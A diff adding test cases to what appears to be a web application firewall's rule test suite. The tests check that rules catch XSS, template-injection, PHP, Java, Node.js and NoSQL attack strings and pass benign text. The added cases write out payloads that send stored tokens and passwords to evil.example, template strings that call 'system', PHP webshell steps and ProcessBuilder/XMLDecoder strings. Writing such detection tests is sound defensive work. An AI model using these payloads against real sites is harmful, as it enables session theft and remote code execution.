@@ -161,4 +161,30 @@ describe_rules("edge.waf.rules second blind set (SQLi, SSTI, PHP, Java)", functi
         clean({ "clear require.cache in tests when mocking", "the hiring (process) takes two weeks",
             "we return process documentation in the wiki" })
     end)
+
+    it("round five, XSS and SSTI: storage exfiltration, foreign form actions, any {% tag %} with code", function()
+        caught_by(141140, { "fetch('//evil.example',{method:'POST',body:localStorage.getItem('token')})",
+            "navigator.sendBeacon('//x', sessionStorage.token)", "new Image().src='//x/?'+localStorage.jwt" })
+        caught_by(141150, { "<form action=//evil.example/steal><input name=password>",
+            "<form method=post action=\"https://evil.example/\">" })
+        caught_by(134110, { "{% do _self.env.registerUndefinedFilterCallback('system') %}",
+            "{% assign x = 'id' | system %}", "{% autoescape false %}{{ x }}{% endautoescape %}",
+            "{% set x = 'id' %}" })
+        not_by(141150, { "<form action=\"/search\"> is fine" })
+        clean({ "localStorage.getItem('theme') returns null on first load",
+            "{% csrf_token %} goes inside the form", "{% block content %}{% endblock %}" })
+    end)
+
+    it("round five, PHP, Java, Node.js: element calls, chmod, XMLDecoder, Nashorn, node: specifiers, $where",
+        function()
+        caught_by(133100, { "[\"system\"][0](\"id\")", "$a=['system'];$a[0]('id');" })
+        caught_by(133110, { "chmod('shell.php', 0777)", "touch('/var/www/html/x.php')" })
+        caught_by(144140, { "<void method=\"start\"/>", "<object class=\"java.lang.ProcessBuilder\">",
+            "load('nashorn:mozilla_compat.js')" })
+        caught_by(135100, { "require('node:os').userInfo()", "require(\"node:net\").connect(1)",
+            "require('fs/promises')", "import('node:child_process')" })
+        caught_by(135130, { "{\"$where\":\"this.password.match(/.*/)\"}", "{'$function': {body: 'x'}}" })
+        clean({ "chmod 644 on the uploads folder", "the void method returns nothing",
+            "load the nashorn docs", "price in $where currency" })
+    end)
 end)
